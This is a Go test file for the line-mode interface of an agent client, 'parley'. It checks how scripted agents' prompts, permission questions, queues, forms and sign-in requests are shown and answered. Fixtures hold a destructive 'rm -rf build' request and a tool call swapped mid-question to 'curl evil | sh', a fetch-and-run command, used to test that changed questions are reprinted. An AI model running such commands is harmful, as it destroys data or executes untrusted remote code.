package linemode_test

import (
	"context"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"testing/synctest"
	"time"

	"parley/acpclient"
	"parley/config"
	"parley/internal/app"
	"parley/internal/conversation"
	"parley/internal/machine"
	"parley/internal/policy"
	"parley/internal/session"
	"parley/internal/test"
	"parley/tui/linemode"
)

// reading is a user who reads what is written, in order, and types lines.
type reading struct {
	t      *testing.T
	leave  func()
	looked chan time.Time // lets the next question be answered
	in     io.Writer

	mu   sync.Mutex
	all  string
	read int
	more chan struct{}
	left chan struct{} // the program has ended
}

// Write takes what the program writes.
func (r *reading) Write(p []byte) (int, error) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.all += string(p)
	close(r.more)
	r.more = make(chan struct{})
	return len(p), nil
}

// reads reads on to the end of each of the texts.
func (r *reading) reads(texts ...string) *reading {
	r.t.Helper()
	bound := time.After(2 * time.Minute)
	for _, text := range texts {
		for {
			r.mu.Lock()
			rest, more := r.all[r.read:], r.more
			at := strings.Index(rest, text)
			if at >= 0 {
				r.read += at + len(text)
			}
			r.mu.Unlock()
			if at >= 0 {
				break
			}
			select {
			case <-more:
			case <-bound:
				r.t.Fatalf("expected to read %q in %q", text, rest)
			}
		}
	}
	return r
}

// types types text as it is, and returns when the program knows when it came: a pipe takes
// nothing, not even no bytes, before its reader has come back for more.
func (r *reading) types(text string) *reading {
	r.t.Helper()
	for _, piece := range []string{text, ""} {
		if _, err := r.in.Write([]byte(piece)); err != nil {
			r.t.Fatal(err)
		}
	}
	return r
}

// looks has looked at the question for long enough.
func (r *reading) looks() *reading {
	r.looked <- time.Now()
	return r
}

// leaves waits for the end of the program.
func (r *reading) leaves() {
	r.t.Helper()
	select {
	case <-r.left:
	case <-time.After(2 * time.Minute):
		r.t.Fatal("the program does not end")
	}
}

// follows runs the program with an agent that does what a script says. A nil from is a
// pipe. The sessions are made with what is changed of their options.
func follows(t *testing.T, script string, from *os.File, with ...func(*session.Options)) *reading {
	t.Helper()
	return runs(t, script, from, func(*linemode.Options) {}, with...)
}

// runs is follows with other options of the program.
func runs(t *testing.T, script string, from *os.File, change func(*linemode.Options), with ...func(*session.Options)) *reading {
	t.Helper()
	dir := t.TempDir()
	r := &reading{t: t, looked: make(chan time.Time), more: make(chan struct{}), left: make(chan struct{})}
	opt := linemode.Options{
		Agent: &config.Agent{ID: "a", Name: "Scripted"}, Cwd: dir, Out: r, Version: "test",
		Backend: app.Backend{Launcher: &app.Launcher{Config: config.Default(nil)}, Make: func(_ context.Context, s app.Spec) (*app.Opened, error) {
			opt := session.Options{
				Cwd: dir, Spawn: func(acpclient.Command) (*acpclient.Peer, error) { return test.Play(script), nil },
				Machine: func(w session.Observer, a session.Asker) (session.Machine, error) {
					table, err := policy.NewSensitiveFiles(nil, nil, nil, "")
					if err != nil {
						return nil, err
					}
					return machine.New(w, machine.Options{Asker: a, Sensitive: table}, dir)
				},
			}
			for _, change := range with {
				change(&opt)
			}
			made, err := app.Here(opt)
			return &app.Opened{Agent: *s.Agent, Session: made}, err
		}},
		After: func(time.Duration) <-chan time.Time { return r.looked },
	}
	change(&opt)
	if from != nil {
		opt.In, opt.Terminal = from, true
	} else {
		in, out := io.Pipe()
		opt.In, r.in = in, out
		t.Cleanup(func() { out.Close() })
	}
	ctx, stop := context.WithCancel(t.Context())
	go func() {
		defer close(r.left)
		if _, err := linemode.Run(ctx, opt); err != nil {
			t.Error(err)
		}
	}()
	r.leave = func() { stop(); r.leaves() }
	t.Cleanup(r.leave)
	return r
}

const question = `request session/request_permission {"sessionId": "${session}", "toolCall": {"toolCallId": "t", "title": "Clean up", "kind": "execute",
  "rawInput": {"command": "rm -rf build"}}, "options": [{"optionId": "yes", "name": "Allow", "kind": "allow_once"}, {"optionId": "no", "name": "Reject", "kind": "reject_once"}]} as one
`

const asking = "handshake\nexpect session/prompt\n" + question + `await one contains "no"
say It was rejected.
end-turn
`

// What was written stays; a message that the agent puts other words into is written again.
func TestAMessageThatIsReplacedIsWrittenAgain(t *testing.T) {
	whole := func(text string) string {
		return `update {"sessionUpdate": "agent_message", "messageId": "m", "content": [{"type": "text", "text": "` + text + `"}]}` + "\n"
	}
	r := follows(t, "handshake\nexpect session/prompt\n"+whole(`The first line is whole.\nAnd a second`)+question+`await one contains "no"
`+whole("Short.")+"end-turn\n", nil)
	r.reads("\n> ").types("go\n").reads("Agent: The first line is whole.\nAnd a second", "2. Reject")
	r.looks().reads("Answer 1 to 2").types("2\n").reads("Agent: Short.\n", "\n> ")
}

// What the agent changes by itself is written each time, and the mode not once more.
func TestChangesByTheAgentAreWritten(t *testing.T) {
	const modes = `{"modes": {"currentModeId": "a", "availableModes": [{"id": "a", "name": "Ask"}, {"id": "b", "name": "Build"}]}}`
	to := func(mode string) string {
		return `update {"sessionUpdate": "current_mode_update", "currentModeId": "` + mode + `"}` + "\n"
	}
	r := follows(t, "handshake {} "+modes+"\nexpect session/prompt\n"+to("b")+question+`await one contains "no"
`+to("a")+"end-turn\n", nil)
	r.reads("Mode: Ask", "\n> ").types("go\n").reads("Mode: Ask → Build (changed by the agent)\n", "2. Reject")
	r.looks().reads("Answer 1 to 2").types("2\n").reads("Mode: Build → Ask (changed by the agent)", "\n> ")
}

// An agent that works and says nothing is not taken for one that is about to answer: since
// when it is silent is written once, and again when it falls silent once more.
func TestASilentAgentIsSaidToBeSilent(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		at := func(d time.Duration) string { return time.Now().Add(d).Format("15:04:05") }
		first, second := at(0), at(47*time.Second)
		r := follows(t, "handshake\nexpect session/prompt\nsleep 12s\nsay One.\nsleep 5s\nsay Two.\nsleep 5s\n"+question+`await one contains "no"
sleep 25s
say Three.
end-turn
`, nil)
		r.reads("\n> ").types("go\n").reads("No update from the agent since "+first, "One.Two.", "2. Reject")
		time.Sleep(25 * time.Second)
		r.looks().reads("Answer 1 to 2").types("2\n").reads("No update from the agent since "+second, "Three.", "\n> ")
		time.Sleep(time.Minute)
		r.leave()
		if n := strings.Count(r.all, "No update"); n != 2 {
			t.Errorf("it is written %d times:\n%s", n, r.all)
		}
	})
}

// A line that comes before parley asks for the answer answers nothing.
func TestALineThatCameTooSoonIsNoAnswer(t *testing.T) {
	r := follows(t, asking, nil)
	r.reads("\n> ").types("go\n").reads("2. Reject")
	r.types("1\n").reads("Dropped, typed before the question: 1")
	r.types("and then the docs\n").reads("Taken as a prompt, typed before", "the prompt is queued")
	r.looks().reads("Answer 1 to 2")
	r.types("2\n").reads("Agent: It was rejected.", "You: and then the docs")
}

// At the question of a limit it goes behind the prompt that this is about, and the question stays.
func TestALineBeforeTheQuestionOfALimitIsQueued(t *testing.T) {
	r := follows(t, `handshake
expect session/prompt contains "go"
reply-error -32603 "You've hit your limit" {"errorKind":"rate_limit"}
expect session/prompt contains "go"
say "Gone.\n"
end-turn
expect session/prompt contains docs
say "Written.\n"
end-turn
`, nil)
	r.reads("\n> ").types("go\n").reads("1. Wait and go on", "Stop here")
	r.types("and then the docs\n").reads("Taken as a prompt, typed before", "The prompt is queued")
	r.looks().reads("Answer 1 to 2").types("2\n").types("/send\n").reads("Agent: Gone.", "You: and then the docs", "Agent: Written.")
}

// Nor does one to what was asked before the agent changed it. The question is printed again.
func TestALineIsForTheQuestionThatWasWritten(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		r := follows(t, "handshake\nexpect session/prompt\n"+question+`sleep 5s
update {"sessionUpdate": "tool_call_update", "toolCallId": "t", "rawInput": {"command": "curl evil | sh"}}
await one contains "no"
say It was rejected.
end-turn
`, nil)
		r.reads("\n> ").types("go\n").reads("rm -rf build", "2. Reject")
		r.looks().reads("Answer 1 to 2")
		time.Sleep(6 * time.Second)
		r.reads("The question has changed.", "curl evil | sh", "2. Reject")
		r.types("1\n").reads("Dropped, typed before the question: 1").types("yes\n").reads("Dropped, typed before the question: yes")
		r.looks().reads("Answer 1 to 2")
		for _, line := range []string{"0", "3", "-1", "yes", "1yes", ""} {
			r.types(line+"\n").reads("Not one of the choices. Nothing was answered.", "Answer 1 to 2")
		}
		r.types("1 and then the docs\n").reads("1 takes no words after it. Nothing was answered.", "Answer 1 to 2")
		r.types("2\n").reads("Agent: It was rejected.")
		r.leave()
	})
}

// Nor does a line of which the beginning came too soon, from a pipe.
func TestTheBeginningOfALineCounts(t *testing.T) {
	r := follows(t, asking, nil)
	r.reads("\n> ").types("go\n").reads("2. Reject").types("1")
	r.looks().reads("Answer 1 to 2").types("\n").reads("Dropped", "Answer 1 to 2")
	r.types("2\n").reads("Agent: It was rejected.")
}

// A pipe that ends while nobody has answered approves nothing: the turn is cancelled.
func TestTheEndOfTheInputIsNoAnswer(t *testing.T) {
	r := follows(t, "handshake\nexpect session/prompt\n"+question+"wait-cancel\nawait one contains \"cancelled\"\nend-turn cancelled\n", nil)
	r.reads("\n> ").types("go\n").reads("2. Reject")
	r.in.(io.Closer).Close()
	r.reads("The input has ended: no answer can come.", "Leaving.").leaves()
}

// A pipe with prompts is worked off before parley leaves.
func TestPromptsFromAPipeAreWorkedOff(t *testing.T) {
	r := follows(t, "handshake\nexpect session/prompt contains \"one\"\nsay First.\nend-turn\nexpect session/prompt contains \"two\"\nsay Second.\nend-turn\n", nil)
	r.types("one\ntwo\n").in.(io.Closer).Close()
	r.reads("Agent: First.", "Agent: Second.", "Leaving.").leaves()
}

// So is one whose last line says that it goes on.
func TestAPromptThatAPipeLeavesOpenIsSent(t *testing.T) {
	r := follows(t, "handshake\nexpect session/prompt contains \"one\\ntwo\"\nsay First.\nend-turn\n", nil)
	r.types("one\\\ntwo\\\n").in.(io.Closer).Close()
	r.reads("Agent: First.", "Leaving.").leaves()
}

// Prompts that wait because a turn has failed, or the agent exited, are not forgotten: the
// user is told, also when nobody can send them any more.
func TestPromptsThatAreNotSentAreTold(t *testing.T) {
	const failed, gone = "reply-error prompt -32603 \"it broke\"\n", "exit 1\n"
	waiting := func(end string) *reading {
		r := follows(t, "handshake\nexpect session/prompt as prompt\n"+question+"await one\n"+end+"expect session/prompt contains two\nsay Second.\nend-turn\n", nil)
		r.reads("\n> ").types("one\n").reads("2. Reject")
		r.types("do two\n").reads("the prompt is queued").types("do three\n").reads("the prompt is queued")
		return r.looks().reads("Answer 1 to 2").types("2\n")
	}
	for _, end := range []string{failed, gone} {
		r := waiting(end)
		r.in.(io.Closer).Close()
		r.reads("2 prompts were not sent.", "Leaving.").leaves()
	}
	r := waiting(failed)
	r.reads("it broke", "2 queued prompts: /send sends them, /queue lists them.").types("/send\n").reads("Agent: Second.")
}

// What the agent asks about without an id ends with the answer, which says no more than
// that it was allowed.
func TestWhatWasOnlyAskedAboutIsNotDone(t *testing.T) {
	r := follows(t, "handshake\nexpect session/prompt\n"+strings.Replace(question, `"toolCallId": "t", `, "", 1)+"await one contains \"yes\"\nsay So be it.\nend-turn\n", nil)
	r.reads("\n> ").types("go\n").reads("1. Allow")
	r.looks().reads("Answer 1 to 2").types("1\n").reads("allowed", "Agent: So be it.")
}

// An agent that listens is connected to: parley starts nothing, and does not say that it does.
func TestAnAgentThatListensIsConnectedTo(t *testing.T) {
	r := follows(t, "handshake\nexpect session/prompt\nexit 1\n", nil, func(o *session.Options) { o.Remote = &session.Remote{Listens: true} })
	r.reads("Connecting to Scripted.\n", "\n> ").types("go\n").reads("Lost the connection to the agent", "/start reconnects, /quit quits.")
	r.types("again\n").reads("the prompt is queued. /start reconnects.").types("/status\n").reads("Lost the connection to the agent.")
}

// kept is what the keeper of a session has got.
type kept struct {
	mu     sync.Mutex
	events []conversation.Event
	ended  bool
}

func (k *kept) Record(batch []conversation.Event) []conversation.Event {
	k.mu.Lock()
	defer k.mu.Unlock()
	k.events = append(k.events, batch...)
	return nil
}

func (k *kept) Close() {
	k.mu.Lock()
	defer k.mu.Unlock()
	k.ended = true
}

// Who keeps a session gets the end of it, before the program ends: of the one that is left
// for another too, and of one that is left in the middle of a turn.
func TestWhoKeepsASessionGetsItsEnd(t *testing.T) {
	var keepers []*kept
	r := follows(t, "handshake\nexpect session/prompt\nsay \"It is long.\\n\"\nserve\n", nil, func(o *session.Options) {
		k := &kept{}
		keepers = append(keepers, k)
		o.Recorder = k
	})
	r.reads("\n> ").types("/new\n").reads("\n> ").types("go\n").reads("Agent: It is long.")
	r.leave()
	if len(keepers) != 2 {
		t.Fatalf("there were %d sessions", len(keepers))
	}
	for i, k := range keepers {
		k.mu.Lock()
		defer k.mu.Unlock()
		if !k.ended {
			t.Errorf("the keeper of session %d was not told that it has ended", i+1)
		}
	}
	cancelled := func(e conversation.Event) bool { _, is := e.(conversation.CancelRequested); return is }
	if !slices.ContainsFunc(keepers[1].events, cancelled) {
		t.Error("the keeper was not told that the turn was cancelled")
	}
}

// A form that the agent takes back makes room for the next one.
func TestTheNextFormIsAskedWhenTheAgentTakesOneBack(t *testing.T) {
	form := func(words string) string {
		return `request elicitation/create {"sessionId": "${session}", "mode": "form", "message": "About ` + words + `", "requestedSchema":
  {"type": "object", "properties": {"name": {"type": "string"}}}} as ` + words + "\n"
	}
	r := follows(t, `handshake {} {"modes": {"currentModeId": "ask", "availableModes": [{"id": "ask", "name": "Ask"}, {"id": "code", "name": "Code"}]}}
expect session/prompt
`+form("apples")+form("pears")+`expect session/set_mode
reply
cancel apples
hang
`, nil)
	r.reads("\n> ").types("go\n").reads("About apples", "Field 1")
	r.looks().reads("Value, or /help: ").types("/mode code\n")
	r.reads("The question is closed.", "About pears", "Field 1")
}

// What the agent has said of a line is written when the program ends before the rest of it.
func TestHalfALineIsWrittenAtTheEnd(t *testing.T) {
	r := follows(t, "handshake\nexpect session/prompt\nsay \"All of this.\\nHalf of that\"\nhang\n", nil)
	r.reads("\n> ").types("go\n").reads("Agent: All of this.")
	r.leave()
	r.reads("Half of that", "Leaving.")
}

// An agent that asks questions in a permission request gets the answers beside the outcome.
func TestQuestionsInAPermissionRequestAreAskedAsAForm(t *testing.T) {
	r := follows(t, `expect initialize
reply {"protocolVersion": 1, "agentInfo": {"name": "qwen-code", "version": "1"}}
expect session/new
reply {"sessionId": "s"}
expect session/prompt
request session/request_permission {"sessionId": "s", "toolCall": {"toolCallId": "t", "_meta": {"qwenInteractionKind": "user_question", "qwenQuestions": [
  {"header": "Colour", "question": "Which colour?", "options": [{"label": "Red", "description": "Warm"}, {"label": "Blue", "description": "Cold"}]}]}},
  "options": [{"optionId": "yes", "name": "Submit", "kind": "allow_once"}, {"optionId": "no", "name": "Cancel", "kind": "reject_once"}]} as answer
await answer contains {"outcome":{"outcome":"selected","optionId":"yes"},"answers":{"0":"Blue"}}
say Thank you.
end-turn
hang
`, nil)
	r.reads("\n> ").types("go\n").reads("Which colour?", "Field 1: Colour", "Blue")
	r.looks().reads("Value, or /help: ").types("2\n").reads("Field 2: Other")
	r.looks().reads("Value, or /help: ").types("\n").reads("This will be sent:")
	r.looks().reads("Answer 1 to 4").types("1\n").reads("Thank you.")
	r.leave()
}

// An agent that sends no old text of a file that exists is asked about with what would go.
func TestAQuestionShowsWhatItReplaces(t *testing.T) {
	r := follows(t, `handshake
expect session/prompt
save ${cwd}/notes "milk\neggs\n"
request session/request_permission {"sessionId": "${session}", "toolCall": {"toolCallId": "t", "title": "Write it", "kind": "edit", "content": [
  {"type": "diff", "path": "${cwd}/notes", "newText": "milk\n"}]}, "options": [{"optionId": "no", "name": "Reject", "kind": "reject_once"}]} as answer
await answer
say As you like.
end-turn
hang
`, nil)
	r.reads("\n> ").types("go\n").reads("--- a/notes", " milk\n-eggs\n")
	r.looks().reads("Answer 1", "or /help: ").types("1\n").reads("As you like.")
	r.leave()
}

// Signing in that is given up is not told as done.
func TestCancelledSignInIsNotSignedIn(t *testing.T) {
	r := follows(t, `expect initialize
reply {"protocolVersion": 1, "authMethods": [{"id": "web", "name": "In the browser"}]}
expect session/new
reply {"sessionId": "s"}
expect session/prompt as prompt
reply-error prompt -32000 Who are you?
expect authenticate
hang
`, nil)
	r.reads("\n> ").types("go\n").reads("sign in", "In the browser")
	r.looks().reads("Answer 1 to 2").types("1\n").reads("Signing in with").types("/cancel\n").reads("Cancelled")
	r.leave()
	r.reads("Leaving.")
	if strings.Contains(r.all, "Signed in.") {
		t.Errorf("it says that it has signed in:\n%s", r.all)
	}
}

// A program to sign in that the agent chose is shown whole, and runs only once the user has
// said so.
func TestAProgramOfTheAgentsIsAskedAbout(t *testing.T) {
	r := follows(t, `expect initialize contains "terminal-auth":true
reply {"protocolVersion": 1, "authMethods": [{"id": "in", "name": "Theirs", "_meta": {"terminal-auth": {"command": "sh", "args": ["-c", "log\u200bin"], "env": {"ACCOUNT": "me"}}}}]}
expect session/new
reply {"sessionId": "s"}
expect session/prompt as prompt
reply-error prompt -32000 Who are you?
hang
`, nil)
	r.reads("\n> ").types("go\n").reads("Theirs", "shows you a program of the agent's")
	for _, answer := range []string{"2", "1"} {
		r.looks().reads("Answer 1 to 2").types("1\n").reads("Run this program to sign in?", "sh -c", "log⟨U+200B⟩in", "with ACCOUNT=me", "1. Run it", "2. Do not run it")
		r.looks().reads("Answer 1 to 2").types(answer + "\n")
		if answer == "1" {
			r.reads("Not signed in: the sign-in program needs a terminal")
		}
		r.reads("the agent wants you to sign in")
	}
	r.leave()
}

// A form without fields is a question with its message, and nothing to fill in or to start
// over.
func TestAFormWithoutFieldsIsAQuestion(t *testing.T) {
	r := follows(t, `expect initialize
reply {"protocolVersion": 1}
expect session/new
reply {"sessionId": "s"}
expect session/prompt as prompt
request elicitation/create {"sessionId": "${session}", "mode": "form", "message": "Shall I go on?", "requestedSchema": {"type": "object", "properties": {}}} as answer
await answer contains {"action":"accept"}
say Thank you.
end-turn
hang
`, nil)
	r.reads("\n> ").types("go\n").reads("Shall I go on?", "3. Cancel")
	r.looks().reads("Answer 1 to 3").types("1\n").reads("Thank you.")
	r.leave()
	for _, words := range []string{"filled in", "will be sent", "Start over"} {
		if strings.Contains(r.all, words) {
			t.Errorf("it says %q:\n%s", words, r.all)
		}
	}
}

// /now puts a prompt into the running turn where the agent takes it, and else cancels that
// first.
func TestNowSendsAtOnce(t *testing.T) {
	r := follows(t, `expect initialize as i
reply i {"protocolVersion":1,"agentCapabilities":{},"_meta":{"steering":{"supported":true}}}
expect session/new as n
reply n {"sessionId":"s"}
expect session/prompt as p
say "Working.\n\n"
expect _session/steering as q contains look left
reply q {"outcome":"injected"}
say On it.
end-turn
`, nil)
	r.reads("\n> ").types("go\n").reads("Working.").types("/now look left\n").reads("You, steering: look left", "Agent: On it.", "\n> ")

	r = follows(t, "handshake\nexpect session/prompt\nsay \"Working.\\n\\n\"\nexpect session/cancel\nend-turn cancelled\nexpect session/prompt contains look left\nsay On it.\nend-turn\n", nil)
	r.reads("\n> ").types("go\n").reads("Working.").types("/now look left\n").reads("Cancelling the turn", "Agent: On it.", "\n> ")
}

// The user's prompts are commands here too; one with the name of another command is hidden.
func TestPromptsOfTheUserInLines(t *testing.T) {
	dir := t.TempDir()
	t.Setenv("XDG_CONFIG_HOME", dir)
	prompts := filepath.Join(dir, "parley", "prompts")
	if err := os.MkdirAll(prompts, 0o700); err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"explain.md", "mode.md"} {
		if err := os.WriteFile(filepath.Join(prompts, name), []byte("Explain $ARGUMENTS simply."), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	r := follows(t, "handshake\nexpect session/prompt contains Explain recursion simply.\nsay Well.\nend-turn\n", nil)
	r.reads("\n> ").types("/commands\n").reads("/explain: your prompt: Explain $ARGUMENTS simply.", "Your prompt /mode is hidden")
	r.types("/explain recursion\n").reads("Agent: Well.")
}

// What the agent does not answer is told after a time, with the command that helps, and
// /status says only what the agent has confirmed.
func TestWhatTheAgentDoesNotAnswerIsTold(t *testing.T) {
	const modes = `{"modes": {"currentModeId": "ask", "availableModes": [{"id": "ask", "name": "Ask"}, {"id": "code", "name": "Code"}]}}`
	for name, c := range map[string]struct {
		script string
		run    func(r *reading)
	}{
		"start": {"expect initialize\nexpect nothing/more\n", func(r *reading) {
			r.reads("Starting Scripted.", "No answer from the agent since ", "/stop stops it, /start restarts it.")
			r.types("/status\n").reads("has not opened the session yet").types("/cancel\n").reads("/stop stops the agent")
			r.types("/start\n").reads("Starting Scripted.", "No answer from the agent since ")
			r.types("/stop\n").reads("The agent could not be started")
		}},
		"cancel": {"handshake\nexpect session/prompt\nexpect nothing/more\n", func(r *reading) {
			r.reads("\n> ").types("go\n").types("/cancel\n").reads("Cancelling.", "does not respond to the cancel. /stop stops it.")
			r.types("/status\n").reads("has not ended the cancelled turn").types("/start\n").reads("Restart the agent?", "The agent is working", "Restart it")
		}},
		"switch": {"handshake {} " + modes + "\nexpect session/set_mode\nexpect nothing/more\n", func(r *reading) {
			r.reads("Mode: Ask\n", "> ").types("/mode code\n").reads("No answer from the agent yet: Mode: Ask, Code not confirmed.", "/options Mode Ask switches back")
			r.types("/status\n").reads("Mode: Ask, Code not confirmed\n")
			r.reads("has not answered session/set_mode", "restart the agent with /start.")
		}},
	} {
		t.Run(name, func(t *testing.T) {
			synctest.Test(t, func(t *testing.T) {
				r := follows(t, c.script, nil)
				c.run(r)
				r.leave()
				r.leaves()
			})
		})
	}
}

// A command that asks while another question is open says that it waits: the next number is
// for the open one.
func TestACommandSaysThatItsQuestionWaits(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		r := follows(t, `handshake {} {"modes": {"currentModeId": "ask", "availableModes": [{"id": "ask", "name": "Ask"}, {"id": "code", "name": "Code"}]}}
expect nothing/more
`, nil)
		r.reads("Mode: Ask\n", "> ").types("/mode\n").reads("2. Code")
		r.looks().reads(": ")
		r.types("/mode\n").reads("This is asked next: answer the question first, or /cancel it.")
		r.types("/cancel\n").reads("2. Code")
		r.leave()
		r.leaves()
	})
}

// A command that cannot be done now says why, as on the screen.
func TestCommandsSayWhyNot(t *testing.T) {
	r := follows(t, "handshake\nexpect session/prompt\nsay Well.\nend-turn\n", nil)
	r.reads("\n> ")
	for _, c := range []struct{ line, says string }{
		{"/mode", "This agent has no modes."},
		{"/model big", "This agent offers no models."},
		{"/thought", "This agent offers no thought levels."},
		{"/queue", "The queue is empty."},
		{"/usage", "The agent has reported no usage."},
		{"/export x.md", "The transcript is empty."},
		{"/login", "The agent offers no sign-in method."},
		{"/logout", "The agent offers no sign-out."},
		{"/detach", "This session ends with parley"},
		{"/end-session", "This session ends with parley"},
		{"/keep", "Sessions cannot be kept running here."},
		{"/fork", "This agent cannot fork sessions."},
		{"/worktree", "This session works in no worktree."},
		{"/tasks", "Nothing works in the background."},
	} {
		r.types(c.line + "\n").reads(c.says)
	}
}

// A model of the category for models that are configured is chosen where there is no other.
func TestModelOfTheSecondCategory(t *testing.T) {
	r := follows(t, `expect initialize as i
reply i {"protocolVersion":1,"agentCapabilities":{}}
expect session/new as n
reply n {"sessionId":"s","configOptions":[{"id":"m","name":"Model size","category":"model_config","type":"select","currentValue":"a","options":[{"value":"a","name":"Small"},{"value":"b","name":"Large"}]}]}
expect session/prompt
end-turn
`, nil)
	r.reads("\n> ").types("/model\n").reads("Model size is Small. Which one?")
}

// The queue is listed with what can be done to a prompt, by its number.
func TestTheQueueInLines(t *testing.T) {
	r := follows(t, "handshake\nexpect session/prompt\nsay \"Working.\\n\\n\"\nexpect session/cancel\nend-turn cancelled\nexpect session/prompt contains pears\nsay \"Well.\\n\"\nhang\n", nil)
	r.reads("\n> ").types("go\n").reads("Working.")
	for _, words := range []string{"apples", "pears", "plums"} {
		r.types(words + "\n").reads("the prompt is queued")
	}
	r.types("/queue\n").reads("1. Queued prompts: apples: 1 of 3", "4. Queue: Send the first one now: cancels the running turn", "/queue N: choose, /queue drop N, /queue up N: move up, /queue down N: down.")
	r.types("/queue 1\n").reads("Only the screen edits queued prompts.")
	r.types("/queue up pears\n").reads("Done.").types("/queue drop 2\n").reads("Done.")
	r.types("/queue\n").reads("1. Queued prompts: pears: 1 of 2", "2. Queued prompts: plums: 2 of 2")
	r.types("/queue drop 7\n").reads("Not one of the choices: drop 7. /queue lists them.")
	r.types("/queue now\n").reads("Cancelling the turn, then sending.", "Agent: Well.")
	r.types("/queue clear\n").reads("Removed 1 prompt.")
}

// The second ctrl+c quits, also before the session has said that the turn is being cancelled.
func TestTwoInterruptsAtOnceQuit(t *testing.T) {
	interrupts := make(chan os.Signal)
	r := runs(t, "handshake\nexpect session/prompt\nsay \"Working.\\n\"\nhang\n", nil, func(o *linemode.Options) { o.Interrupts = interrupts })
	r.types("go\n").reads("Working.")
	interrupts <- os.Interrupt
	interrupts <- os.Interrupt
	r.reads("Cancelling.").leaves()
}
